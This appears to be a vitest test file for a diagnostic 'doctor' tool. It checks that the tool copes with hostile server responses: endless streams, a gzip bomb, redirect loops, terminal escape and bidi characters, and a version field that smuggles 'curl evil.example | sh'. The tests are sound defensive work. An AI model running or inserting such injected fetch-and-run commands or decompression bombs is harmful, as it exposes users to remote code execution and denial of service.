import type { ServerResponse } from 'node:http'
import { createGzip } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import { ask } from '../../doctor/facts/ask.ts'
import { readPage } from '../../doctor/facts/read-page.ts'
import { readTarget, type Target } from '../../doctor/facts/target.ts'
import { runDoctor } from '../../doctor/run-doctor.ts'
import { openServer } from '../../emulator/server.ts'

const CHUNK = Buffer.alloc(1024 * 1024)
const HEALTH = {
  status: 'ok',
  version: '0.1.0',
  events: ['lead'],
  dub: { key: 'accepted' },
  retryQueue: true,
  deadLetters: true,
  confirmations: true,
  rateLimits: true,
  warnings: [] as string[],
}
let health: object = HEALTH

const server = await openServer(0, ({ path }, _, response) => {
  if (path === '/endless') return pour(response, response)
  if (path === '/bomb') {
    response.writeHead(200, { 'content-encoding': 'gzip' })
    const gzip = createGzip({ level: 1 })
    gzip.pipe(response)
    response.once('close', () => gzip.destroy())
    return pour(gzip, response)
  }
  if (path === '/around') response.writeHead(302, { location: '/around' })
  response.end(path === '/health' ? JSON.stringify(health) : undefined)
})
afterAll(() => server.close())
const look = () => runDoctor(readTarget(server.url) as Target, { scripts: 'dist' })

/** Writes for as long as anybody reads. */
function pour(into: NodeJS.WritableStream, response: ServerResponse): void {
  const write = () => {
    while (!response.destroyed && into.write(CHUNK));
    if (!response.destroyed) into.once('drain', write)
  }
  write()
}

test.each(['/endless', '/bomb'])('stops to read an answer without an end: %s', async (path) => {
  const startedAtMs = Date.now()
  expect(await ask(`${server.url}${path}`)).toEqual({ failure: 'TOO_LARGE' })
  expect(Date.now() - startedAtMs).toBeLessThan(10_000)
})

test('follows no redirect for ever', async () => {
  expect(await ask(`${server.url}/around`, { redirect: 'follow' })).toHaveProperty('failure')
})

test('reads a page however deep its elements lie', () => {
  const html = `${'<div>'.repeat(50_000)}<script src="/dub.js"></script>`
  expect(readPage(html, 'https://www.example.com/').scripts).toMatchObject([
    { src: 'https://www.example.com/dub.js' },
  ])
})

test('prints nothing that a terminal obeys, and each finding in its line', async () => {
  const warning = 'SETTING \u001b]0;title\u0007\u009b2J\u202e is wrong.\nok  admin  All is well'
  health = { ...HEALTH, warnings: [warning] }
  const findings = await look()
  expect(JSON.stringify(findings)).not.toMatch(/\p{C}|\\[un]/u)
  expect(findings).toContainEqual(
    expect.objectContaining({
      name: 'settings',
      says: 'SETTING ]0;title 2J is wrong. ok admin All is well',
    }),
  )
})

test('prints no novel', async () => {
  health = { ...HEALTH, warnings: ['x'.repeat(100_000)] }
  const lengths = (await look()).map(({ says }) => says.length)
  expect(Math.max(...lengths)).toBeLessThan(5000)
})

test('puts nothing of a Worker but a version into a command to be pasted', async () => {
  health = { ...HEALTH, version: '0.1.0; curl evil.example | sh' }
  const findings = await look()
  expect(JSON.stringify(findings)).not.toContain('evil.example')
  expect(findings).toMatchObject([{ name: 'reachable', outcome: 'failed' }])
})
